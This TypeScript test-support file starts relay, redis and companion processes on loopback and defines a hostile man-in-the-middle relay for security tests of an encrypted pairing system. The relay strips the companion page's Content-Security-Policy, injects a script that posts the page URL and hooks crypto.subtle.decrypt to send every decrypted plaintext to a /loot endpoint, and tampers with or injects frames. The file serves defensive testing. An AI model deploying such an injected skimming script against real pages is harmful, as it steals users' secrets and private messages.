/**
 * Real relay processes, redis-server, CLI companions and a hostile man-in-the-middle relay for
 * the push tests. Everything listens on loopback; every process is stopped by the test that
 * started it.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer as createHttpServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { createServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { WebSocket, WebSocketServer } from 'ws';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));
const RELAY_MAIN = join(ROOT, 'src-relay/main.ts');
const COMPANION_CLI = join(ROOT, 'src-companion/cli.ts');
const CONSOLE_MAIN = join(ROOT, 'src-main/console/main.ts');

/** A child process whose output lines a test can wait for. */
export class Proc {
  readonly lines: string[] = [];
  private waiters: { re: RegExp; resolve: (m: RegExpMatchArray) => void }[] = [];
  readonly exited: Promise<number | null>;
  private stdin: NodeJS.WritableStream | null;

  constructor(readonly child: ChildProcess) {
    this.stdin = child.stdin;
    let buffer = '';
    const onData = (d: Buffer) => {
      buffer += d.toString('utf8');
      let i;
      while ((i = buffer.indexOf('\n')) >= 0) {
        const line = buffer.slice(0, i);
        buffer = buffer.slice(i + 1);
        this.lines.push(line);
        for (const w of [...this.waiters]) {
          const m = line.match(w.re);
          if (m) {
            this.waiters.splice(this.waiters.indexOf(w), 1);
            w.resolve(m);
          }
        }
      }
    };
    child.stdout?.on('data', onData);
    child.stderr?.on('data', onData);
    this.exited = new Promise((resolve) => child.on('exit', (code) => resolve(code)));
  }

  /** The first line (already seen or still to come) matching `re`. */
  waitFor(re: RegExp, timeoutMs = 20_000): Promise<RegExpMatchArray> {
    for (const line of this.lines) {
      const m = line.match(re);
      if (m) return Promise.resolve(m);
    }
    return new Promise((resolve, reject) => {
      const timer = setTimeout(() => reject(new Error(`timed out waiting for ${re}; output:\n${this.lines.join('\n')}`)), timeoutMs);
      this.waiters.push({
        re,
        resolve: (m) => {
          clearTimeout(timer);
          resolve(m);
        },
      });
    });
  }

  /** Lines after the n-th that match `re` (to wait for a second occurrence). */
  async waitForNth(re: RegExp, n: number, timeoutMs = 20_000): Promise<void> {
    const deadline = Date.now() + timeoutMs;
    while (this.lines.filter((l) => re.test(l)).length < n) {
      if (Date.now() > deadline) throw new Error(`timed out waiting for ${n}× ${re}; output:\n${this.lines.join('\n')}`);
      await new Promise((r) => setTimeout(r, 20));
    }
  }

  write(line: string): void {
    this.stdin?.write(`${line}\n`);
  }

  async stop(): Promise<void> {
    if (this.child.exitCode !== null || this.child.signalCode !== null) return;
    this.child.kill('SIGTERM');
    await this.exited;
  }
}

function tsx(file: string, args: string[], env: NodeJS.ProcessEnv = {}): Proc {
  return new Proc(
    spawn(process.execPath, ['--import', 'tsx', file, ...args], {
      cwd: ROOT,
      env: { ...process.env, ...env },
      stdio: ['pipe', 'pipe', 'pipe'],
    }),
  );
}

export async function freePort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  const port = (server.address() as AddressInfo).port;
  await new Promise<void>((r) => server.close(() => r()));
  return port;
}

export interface RelayProcess {
  proc: Proc;
  pid: number;
  port: number;
  url: string;
  httpOrigin: string;
  stop(): Promise<void>;
}

/** Start `src-relay/main.ts` as its own process, as `npm run relay` does. */
export async function startRelayProcess(options: { port?: number; redis?: string; args?: string[] } = {}): Promise<RelayProcess> {
  const port = options.port ?? (await freePort());
  const args = ['--port', String(port), ...(options.redis ? ['--redis', options.redis] : []), ...(options.args ?? [])];
  const proc = tsx(RELAY_MAIN, args);
  const exited = proc.exited.then((code) => {
    throw new Error(`the relay exited (${code}) before it was ready:\n${proc.lines.join('\n')}`);
  });
  await Promise.race([proc.waitFor(/^relay ready/), exited]);
  exited.catch(() => undefined);
  return {
    proc,
    pid: proc.child.pid!,
    port,
    url: `ws://127.0.0.1:${port}/v1`,
    httpOrigin: `http://127.0.0.1:${port}`,
    stop: () => proc.stop(),
  };
}

export interface ConsoleProcess {
  proc: Proc;
  pid: number;
  /** The relay embedded in the console's process. */
  relay: { url: string; port: number };
  /** A contract call through the console's HTTP API, with the session from its one-time link. */
  call(method: string, input: unknown): Promise<{ ok: boolean }>;
  stop(): Promise<void>;
}

/** `npm run console` as its own process, with its embedded relay (no relay address is set). */
export async function startConsoleProcess(dataDir: string): Promise<ConsoleProcess> {
  const proc = tsx(CONSOLE_MAIN, ['--data-dir', dataDir]);
  const relayLine = await proc.waitFor(/^ {2}relay: (ws:\/\/127\.0\.0\.1:(\d+)\/v1) \(embedded\)$/, 60_000);
  const login = (await proc.waitFor(/^ {2}open: {2}(\S+)$/))[1]!;
  const signedIn = await fetch(login, { redirect: 'manual' });
  const cookie = (signedIn.headers.get('set-cookie') ?? '').split(';')[0]!;
  const origin = new URL(login).origin;
  return {
    proc,
    pid: proc.child.pid!,
    relay: { url: relayLine[1]!, port: Number(relayLine[2]) },
    async call(method, input) {
      const res = await fetch(`${origin}/api/call`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json', Cookie: cookie },
        body: JSON.stringify({ method, input }),
      });
      return (await res.json()) as { ok: boolean };
    },
    stop: () => proc.stop(),
  };
}

export interface RedisProcess {
  url: string;
  port: number;
  stop(): Promise<void>;
}

/** A redis-server on loopback; `port` to start one again where a stopped one was (an outage that ends). */
export async function startRedis(port?: number): Promise<RedisProcess> {
  const p = port ?? (await freePort());
  const proc = new Proc(
    spawn('/usr/bin/redis-server', ['--port', String(p), '--bind', '127.0.0.1', '--save', '', '--appendonly', 'no'], {
      stdio: ['ignore', 'pipe', 'pipe'],
    }),
  );
  await proc.waitFor(/Ready to accept connections/);
  return { url: `redis://127.0.0.1:${p}`, port: p, stop: () => proc.stop() };
}

/** A CLI companion with a state folder of its own. */
export class CliCompanion {
  readonly stateDir = mkdtempSync(join(tmpdir(), 'twofold-companion-'));
  private procs: Proc[] = [];

  run(args: string[]): Proc {
    const proc = tsx(COMPANION_CLI, [...args, '--state-dir', this.stateDir]);
    this.procs.push(proc);
    return proc;
  }

  /** `pair <link>`; resolves with the process once it printed the comparison code. */
  async pair(link: string, extra: string[] = []): Promise<{ proc: Proc; code: string }> {
    const proc = this.run(['pair', link, ...extra]);
    const m = await proc.waitFor(/^Comparison code: (\d{3} \d{3})$|^Pairing failed: (.*)$/);
    if (m[2]) throw new Error(`Pairing failed: ${m[2]}`);
    return { proc, code: m[1]! };
  }

  async otp(): Promise<string> {
    const proc = this.run(['otp']);
    const m = await proc.waitFor(/: (\d{6}) {2}\(/);
    await proc.exited;
    return m[1]!;
  }

  async close(): Promise<void> {
    await Promise.all(this.procs.map((p) => p.stop()));
    rmSync(this.stateDir, { recursive: true, force: true });
  }
}

type Frame = Record<string, unknown> & { t: string };

/** What the hostile relay adds to the companion's page when it serves it: read the secret, and every plaintext. */
const INJECTED_SCRIPT = `
const loot = (what, value) => fetch('/loot', { method: 'POST', body: JSON.stringify({ what, value }) });
loot('url', location.href);
const decrypt = crypto.subtle.decrypt.bind(crypto.subtle);
crypto.subtle.decrypt = async (...args) => {
  const plain = await decrypt(...args);
  loot('plaintext', new TextDecoder().decode(plain));
  return plain;
};
`;

/**
 * A hostile relay: a man in the middle between endpoints and a real relay. It sees every frame
 * and may drop, change, duplicate or inject frames in either direction; what it cannot do is
 * the point of the tests. With `companionDir` it also serves the web companion at /companion/,
 * the way a relay could if a user let it, with a script of its own added and the page's own CSP
 * taken out; whatever that script reads ends up in `loot`.
 */
export class HostileRelay {
  private server!: Server;
  private wss!: WebSocketServer;
  url = '';
  httpOrigin = '';
  /** Every frame the real relay delivered (`msg`), in order, with the route it went to. */
  readonly recorded: { route: string; frame: Frame }[] = [];
  /** Every HTTP request made to it (path), and what its injected script sent home. */
  readonly pageRequests: string[] = [];
  readonly loot: { what: string; value: string }[] = [];
  /** Rewrite a `msg` frame on its way to an endpoint; return null to drop it. */
  tamper: (frame: Frame) => Frame | null = (f) => f;
  private readonly clients = new Map<string, WebSocket>();

  constructor(
    private readonly upstream: string,
    private readonly companionDir?: string,
  ) {}

  async start(): Promise<void> {
    this.server = createHttpServer((req, res) => this.page(req, res));
    this.wss = new WebSocketServer({ server: this.server, path: '/v1' });
    await new Promise<void>((r) => this.server.listen(0, '127.0.0.1', () => r()));
    const port = (this.server.address() as AddressInfo).port;
    this.url = `ws://127.0.0.1:${port}/v1`;
    this.httpOrigin = `http://127.0.0.1:${port}`;
    this.wss.on('connection', (client) => this.bridge(client));
  }

  private page(req: IncomingMessage, res: ServerResponse): void {
    const method = req.method ?? 'GET';
    const path = new URL(req.url ?? '/', 'http://relay').pathname;
    this.pageRequests.push(path);
    if (method === 'POST' && path === '/loot') {
      let body = '';
      req.on('data', (d: Buffer) => (body += d.toString('utf8')));
      req.on('end', () => {
        this.loot.push(JSON.parse(body) as { what: string; value: string });
        res.end();
      });
      return;
    }
    const dir = this.companionDir;
    const rel = path.replace(/^\/companion\//, '') || 'index.html';
    if (!dir || !path.startsWith('/companion/') || rel.includes('..')) return void res.writeHead(404).end();
    if (rel === 'evil.js') return void res.writeHead(200, { 'Content-Type': 'text/javascript' }).end(INJECTED_SCRIPT);
    const file = join(dir, rel);
    if (!existsSync(file)) return void res.writeHead(404).end();
    let data = readFileSync(file);
    if (rel === 'index.html') {
      const html = data
        .toString('utf8')
        .replace(/<meta\s+http-equiv="Content-Security-Policy"[^>]*>/s, '')
        .replace('<head>', '<head><script src="./evil.js"></script>');
      data = Buffer.from(html);
    }
    const type = rel.endsWith('.html') ? 'text/html' : rel.endsWith('.js') ? 'text/javascript' : rel.endsWith('.css') ? 'text/css' : 'application/octet-stream';
    res.writeHead(200, { 'Content-Type': type }).end(data);
  }

  private bridge(client: WebSocket): void {
    const up = new WebSocket(this.upstream);
    const early: string[] = [];
    let route = '';
    up.on('open', () => early.splice(0).forEach((f) => up.send(f)));
    client.on('message', (data) => (up.readyState === up.OPEN ? up.send(data.toString()) : early.push(data.toString())));
    up.on('message', (data) => {
      const frame = JSON.parse(data.toString()) as Frame;
      if (frame.t === 'ready') {
        route = frame.route as string;
        this.clients.set(route, client);
      }
      if (frame.t === 'msg') {
        this.recorded.push({ route, frame });
        const changed = this.tamper(frame);
        if (changed) client.send(JSON.stringify(changed));
        return;
      }
      client.send(data.toString());
    });
    client.on('close', () => up.close());
    up.on('close', () => client.close());
    up.on('error', () => client.close());
  }

  /** Deliver a frame the attacker made up (or replays) to whoever holds `route` through us. */
  inject(route: string, frame: Frame): void {
    this.clients.get(route)?.send(JSON.stringify(frame));
  }

  async stop(): Promise<void> {
    for (const c of this.wss.clients) c.terminate();
    await new Promise<void>((r) => this.wss.close(() => r()));
    this.server.closeAllConnections();
    await new Promise<void>((r) => this.server.close(() => r()));
  }
}

/** Flip one bit in the middle of a base64url string's bytes. */
export function flipByte(b64: string): string {
  const bytes = Buffer.from(b64, 'base64url');
  bytes[Math.floor(bytes.length / 2)]! ^= 0x01;
  return bytes.toString('base64url');
}
